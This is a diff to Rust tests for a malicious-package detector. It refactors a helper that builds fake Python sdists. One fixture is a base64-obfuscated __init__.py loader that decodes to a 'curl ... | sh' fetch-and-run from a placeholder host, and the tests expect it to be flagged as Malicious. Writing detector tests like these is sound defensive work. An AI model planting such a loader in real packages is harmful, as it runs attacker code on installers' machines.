@@ -13,7 +13,13 @@ use palisade_detect::Analysis;
 
 /// A source distribution whose package `fastutil` has `init` as its `__init__.py`.
 fn sdist(init: &str) -> Analysis {
-    analyse(&[
+    sdist_with("fastutil", init, &[])
+}
+
+/// The distribution `fastutil` with `init` as the `__init__.py` of `folder`, and `extra`.
+fn sdist_with(folder: &str, init: &str, extra: &[(&str, &[u8])]) -> Analysis {
+    let init_path = format!("fastutil-1.0/{folder}/__init__.py");
+    let mut files: Vec<(&str, &[u8])> = vec![
         (
             "fastutil-1.0/PKG-INFO",
             b"Metadata-Version: 2.1\nName: fastutil\nVersion: 1.0\n",
@@ -22,8 +28,10 @@ fn sdist(init: &str) -> Analysis {
             "fastutil-1.0/setup.py",
             b"from setuptools import setup\nsetup(name='fastutil', version='1.0', packages=['fastutil'])\n",
         ),
-        ("fastutil-1.0/fastutil/__init__.py", init.as_bytes()),
-    ])
+        (init_path.as_str(), init.as_bytes()),
+    ];
+    files.extend_from_slice(extra);
+    analyse(&files)
 }
 
 /// An npm package whose postinstall runs `install.js`.
@@ -232,23 +240,15 @@ fn a_cgo_file_with_a_download_helper_is_not_a_dropper() {
 #[test]
 fn the_only_package_counts_though_it_is_named_like_tooling() {
     let loader = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwczovL2RsLmZpbGVzLmV4YW1wbGUvYSB8IHNoJykK'))\n";
-    let sdist_with = |folder: &str, extra: &[(&str, &[u8])]| {
-        let init = format!("fastutil-1.0/{folder}/__init__.py");
-        let mut files: Vec<(&str, &[u8])> = vec![
-            (
-                "fastutil-1.0/PKG-INFO",
-                b"Metadata-Version: 2.1\nName: fastutil\nVersion: 1.0\n",
-            ),
-            (init.as_str(), loader.as_bytes()),
-        ];
-        files.extend_from_slice(extra);
-        analyse(&files)
-    };
     for folder in ["tools", "scripts", "demo"] {
-        assert_verdict(&sdist_with(folder, &[]), Verdict::Malicious);
+        assert_verdict(&sdist_with(folder, loader, &[]), Verdict::Malicious);
     }
     // Beside the real package, `tools` is the developer's tooling.
-    let beside = sdist_with("tools", &[("fastutil-1.0/fastutil/__init__.py", b"")]);
+    let beside = sdist_with(
+        "tools",
+        loader,
+        &[("fastutil-1.0/fastutil/__init__.py", b"")],
+    );
     assert_not_verdict(&beside, Verdict::Malicious);
 }
 
